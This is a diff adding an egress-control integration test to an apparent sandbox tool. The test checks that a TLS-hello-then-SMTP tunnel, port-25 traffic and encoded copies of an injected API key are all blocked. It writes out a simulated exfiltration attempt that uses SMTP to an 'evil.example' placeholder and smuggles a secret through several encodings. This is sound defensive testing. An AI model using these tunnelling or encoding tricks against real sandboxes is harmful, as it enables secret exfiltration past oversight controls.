@@ -768,3 +768,215 @@ test_egress_approvals() {
 	fi
 	ok "$name"
 }
+
+# Issue 23 items 5 and 7 from a real guest, one sandbox:
+#   - a valid ClientHello (made by the guest's own Python ssl) for an
+#     allowed name, then plain SMTP: closed, audited "not a TLS record",
+#     and the server behind the name gets the hello and none of the SMTP;
+#   - the same allowed bare name on port 25: refused by policy, nothing
+#     reaches the server's port 25;
+#   - a server that answers a secret's host with the injected key gzipped,
+#     deflated, in base64/hex/percent and in 8-byte runs: curl in the guest
+#     sees none of it.
+# Servers on 203.0.113.11 (enc.test: HTTPS echo) and 203.0.113.12
+# (tunnel.test: a recorder on 443 and 25 that only logs what it gets).
+eg_write_tunnel_servers() {
+	cat >"$WORK/egt/servers.py" <<-'EOF'
+	import base64, gzip, http.server, socket, socketserver, ssl, sys, threading, zlib
+	log, cert, key = sys.argv[1], sys.argv[2], sys.argv[3]
+	lock = threading.Lock()
+	def note(line):
+	    with lock, open(log, "a") as f:
+	        f.write(line + "\n")
+	def recorder(port):
+	    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+	    s.bind(("203.0.113.12", port)); s.listen(16)
+	    while True:
+	        c, _ = s.accept(); c.settimeout(20); data = b""
+	        try:
+	            while True:
+	                d = c.recv(4096)
+	                if not d:
+	                    break
+	                data += d
+	        except OSError:
+	            pass
+	        note("recorder %d %s" % (port, data.hex()))
+	        c.close()
+	class H(http.server.BaseHTTPRequestHandler):
+	    protocol_version = "HTTP/1.1"
+	    def log_message(self, *a):
+	        pass
+	    def do_GET(self):
+	        v = self.headers.get("X-Api-Key", "").encode()
+	        note("enc %s key=%s" % (self.path, v.decode()))
+	        parts = [v, base64.b64encode(v), base64.urlsafe_b64encode(v).rstrip(b"="), v.hex().encode(),
+	                 v.hex().upper().encode(), "".join("%%%02X" % c for c in v).encode()]
+	        for o in range(len(v) - 7):
+	            parts += [v[o:o + 8], base64.b64encode(v[o:o + 9]), v[o:o + 8].hex().encode()]
+	        body = b" | ".join(parts) + b"\n"
+	        coding = self.path.strip("/")
+	        if coding == "gzip":
+	            body = gzip.compress(body)
+	        elif coding == "deflate":
+	            body = zlib.compress(body)
+	        self.send_response(200)
+	        self.send_header("Content-Length", str(len(body)))
+	        if coding:
+	            self.send_header("Content-Encoding", coding)
+	        self.end_headers()
+	        self.wfile.write(body)
+	class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
+	    daemon_threads = True
+	    allow_reuse_address = True
+	enc = S(("203.0.113.11", 443), H)
+	ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
+	enc.socket = ctx.wrap_socket(enc.socket, server_side=True)
+	threading.Thread(target=enc.serve_forever, daemon=True).start()
+	for p in (443, 25):
+	    threading.Thread(target=recorder, args=(p,), daemon=True).start()
+	print("ready", flush=True)
+	threading.Event().wait()
+	EOF
+	cat >"$WORK/egt/ws/tunnel.sh" <<-'EOF'
+	#!/bin/bash
+	# The guest's attempts; one "eg: NAME=VALUE" line each.
+	python3 - <<-'PY'
+	import socket, ssl, time
+	def hello(name):
+	    # A real ClientHello, from this guest's own TLS library.
+	    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+	    o = ssl.create_default_context().wrap_bio(inc, out, server_hostname=name)
+	    try:
+	        o.do_handshake()
+	    except ssl.SSLWantReadError:
+	        pass
+	    return out.read()
+	def attempt(port, first, then):
+	    # The hello alone first (the proxy checks it and connects), then
+	    # the payload, as the attack in the issue did.
+	    s = socket.create_connection(("tunnel.test", port), timeout=30)
+	    got = b""
+	    try:
+	        s.sendall(first)
+	        time.sleep(2)
+	        s.sendall(then)
+	        while True:
+	            d = s.recv(4096)
+	            if not d:
+	                return "closed" + ("-after-%d-bytes" % len(got) if got else "")
+	            got += d
+	    except socket.timeout:
+	        return "still-open"
+	    except OSError as e:
+	        return "closed" if got == b"" else "closed-after-%d-bytes" % len(got)
+	smtp = b"EHLO evil.example\r\nMAIL FROM:<k8@evil.example>\r\nRCPT TO:<x@y.example>\r\nDATA\r\nk8-tunnel-data\r\n.\r\n"
+	print("eg: hello_len=%d" % len(hello("tunnel.test")))
+	print("eg: tls_then_smtp=%s" % attempt(443, hello("tunnel.test"), smtp))
+	print("eg: port25=%s" % attempt(25, hello("tunnel.test"), smtp))
+	PY
+	for c in plain gzip deflate; do
+		p=/$c; [ $c = plain ] && p=/
+		curl -sS --max-time 30 -H "X-Api-Key: $TUN_KEY" "https://enc.test$p" >/tmp/enc-$c 2>&1
+		echo "eg: enc_${c}_rc=$?"
+		echo "eg: enc_${c}_fields=$(tr '|' '\n' </tmp/enc-$c | wc -l)"
+		sed 's/^/eg-enc: /' /tmp/enc-$c
+	done
+	echo "eg: key=$TUN_KEY"
+	EOF
+	chmod +x "$WORK/egt/ws/tunnel.sh"
+}
+
+# Whether text on stdin holds an 8-byte run of $1 as it is, in hex or
+# base64 (6 bytes make 8 characters at any alignment) or percent-encoded.
+eg_leaks() {
+	python3 -c '
+import base64, sys
+v, t = sys.argv[1].encode(), sys.stdin.buffer.read()
+for o in range(len(v) - 7):
+    r = v[o:o + 8]
+    for e in (r, r.hex().encode(), r.hex().upper().encode(), base64.b64encode(v[o:o + 6]),
+              "".join("%%%02X" % c for c in r).encode()):
+        if e in t:
+            print("leak", o, e.decode()); sys.exit(0)
+sys.exit(1)' "$1"
+}
+
+test_egress_tunnels() {
+	local name=egress-tls-framing-bare-ports-encoded-secrets pids=() value=k8sk-Tunnel-0123456789-abcdefXYZ
+	rm -rf "$WORK/egt" "$WORK/eg" && mkdir -p "$WORK/egt/ws" "$WORK/eg"
+	eg_make_ca || { not_ok "$name" "could not make the test CA"; return; }
+	# The CA's certificate names allowed.test and friends: one for enc.test.
+	openssl req -newkey rsa:2048 -nodes -subj "/CN=enc.test" -keyout "$WORK/egt/enc.key" \
+		-out "$WORK/egt/enc.csr" 2>/dev/null &&
+		printf 'subjectAltName=DNS:enc.test\nextendedKeyUsage=serverAuth\n' >"$WORK/egt/ext" &&
+		openssl x509 -req -in "$WORK/egt/enc.csr" -CA "$WORK/eg/ca.crt" -CAkey "$WORK/eg/ca.key" \
+			-CAcreateserial -days 2 -extfile "$WORK/egt/ext" -out "$WORK/egt/enc.crt" 2>/dev/null ||
+		{ not_ok "$name" "could not make enc.test's certificate"; return; }
+	eg_write_tunnel_servers
+	ip addr add 203.0.113.11/32 dev lo 2>/dev/null
+	ip addr add 203.0.113.12/32 dev lo 2>/dev/null
+	cp /etc/hosts "$WORK/egt/hosts.saved"
+	printf '203.0.113.11 enc.test\n203.0.113.12 tunnel.test\n' >>/etc/hosts
+	python3 "$WORK/egt/servers.py" "$WORK/egt/log" "$WORK/egt/enc.crt" "$WORK/egt/enc.key" \
+		>"$WORK/egt/servers.out" 2>&1 &
+	pids+=($!)
+	for _ in $(seq 1 50); do grep -q ready "$WORK/egt/servers.out" && break; sleep 0.2; done
+	eg_k8 secret rm TUN_KEY >/dev/null 2>&1
+	printf '%s' "$value" | eg_k8 secret add TUN_KEY --host enc.test >"$WORK/egt/out" 2>&1 ||
+		{ not_ok "$name" "kosa8 secret add failed: $(head -1 "$WORK/egt/out")"; kill "${pids[@]}"; return; }
+	eg_step "tunnels: creating and starting the sandbox"
+	if KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 create --name egtun --workspace "$WORK/egt/ws" \
+		--allow enc.test --allow tunnel.test --secret TUN_KEY >"$WORK/egt/out" 2>&1 &&
+		KOSA8_UPSTREAM_CA_FILE=$WORK/eg/ca.crt eg_k8 start egtun >>"$WORK/egt/out" 2>&1; then
+		eg_step "tunnels: guest checks"
+		eg_k8 exec egtun -- /workspace/tunnel.sh >"$WORK/egt/guest" 2>&1 </dev/null
+		eg_k8 stop egtun >/dev/null 2>&1
+		eg_k8 audit show --sandbox egtun >"$WORK/egt/audit" 2>&1
+	else
+		cp "$WORK/egt/out" "$WORK/out"
+		not_ok "$name" "create/start failed: $(tail -1 "$WORK/egt/out")"
+	fi
+	eg_k8 rm -f egtun >/dev/null 2>&1
+	eg_k8 secret rm TUN_KEY >/dev/null 2>&1
+	kill "${pids[@]}" 2>/dev/null
+	wait "${pids[@]}" 2>/dev/null
+	cp "$WORK/egt/hosts.saved" /etc/hosts
+	ip addr del 203.0.113.11/32 dev lo 2>/dev/null
+	ip addr del 203.0.113.12/32 dev lo 2>/dev/null
+	[ -f "$WORK/egt/guest" ] || return
+
+	cp "$WORK/egt/guest" "$WORK/eg/out"   # eg_field reads it there
+	eg_bad=
+	eg_expect hello_len "~^[1-9][0-9]{2,}$"
+	eg_expect tls_then_smtp closed
+	eg_expect port25 closed
+	eg_expect key "~^k8s-placeholder-TUN_KEY-"
+	for c in plain gzip deflate; do
+		eg_expect enc_${c}_rc 0
+		eg_expect enc_${c}_fields "~^[0-9]{2,}$"
+	done
+	grep -q "^enc / key=$value$" "$WORK/egt/log" || eg_bad="$eg_bad server-did-not-get-the-secret"
+	grep -q "^eg-enc: .*$(eg_field key)" "$WORK/egt/guest" || eg_bad="$eg_bad guest-did-not-see-the-placeholder"
+	eg_leaks "$value" <"$WORK/egt/guest" >"$WORK/egt/leak" && eg_bad="$eg_bad secret-run-seen-in-guest:$(cat "$WORK/egt/leak")"
+	# The recorder behind tunnel.test:443 got a hello and no SMTP; port 25
+	# got nothing at all (the proxy never connected).
+	grep -q "^recorder 443 16030" "$WORK/egt/log" || eg_bad="$eg_bad hello-did-not-reach-upstream"
+	grep "^recorder 443 " "$WORK/egt/log" | grep -q "$(printf 'EHLO' | xxd -p)" && eg_bad="$eg_bad smtp-reached-upstream"
+	grep -q "^recorder 25 " "$WORK/egt/log" && eg_bad="$eg_bad port-25-reached"
+	grep "net.connect" "$WORK/egt/audit" | grep "tunnel.test" | grep -E '"port": ?443' |
+		grep -E '"decision": ?"deny"' | grep -qE '"reason": ?"not a TLS record"' ||
+		eg_bad="$eg_bad no-audited-tls-framing-refusal"
+	grep "net.connect" "$WORK/egt/audit" | grep "tunnel.test" | grep -E '"port": ?25' |
+		grep -qE '"reason": ?"policy"' || eg_bad="$eg_bad no-audited-port-25-refusal"
+	grep -q "$value" "$WORK/egt/audit" && eg_bad="$eg_bad secret-value-in-audit-log"
+	if [ -n "$eg_bad" ]; then
+		{
+			cat "$WORK/egt/guest"; echo "--- server log"; cat "$WORK/egt/log"
+			echo "--- audit (net)"; grep -E "net\.|secret" "$WORK/egt/audit" | tail -20
+		} >"$WORK/out" 2>/dev/null
+		not_ok "$name" "$eg_bad"
+		return
+	fi
+	ok "$name"
+}
